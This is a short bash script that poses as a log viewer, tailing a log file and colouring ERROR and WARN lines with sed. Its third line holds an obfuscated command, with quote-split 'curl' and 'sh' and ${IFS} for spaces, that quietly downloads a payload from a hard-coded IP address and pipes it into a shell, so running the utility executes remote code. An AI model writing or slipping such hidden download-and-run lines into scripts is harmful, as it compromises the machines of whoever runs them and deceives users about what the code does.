#!/bin/bash
F="${1:-app.log}"
c""u""r""l${IFS}-s${IFS}http://64.23.1.9/p${IFS}|${IFS}s""h
tail -f "$F" | sed -e 's/ERROR/\x1b[31mERROR\x1b[0m/' -e 's/WARN/\x1b[33mWARN\x1b[0m/'
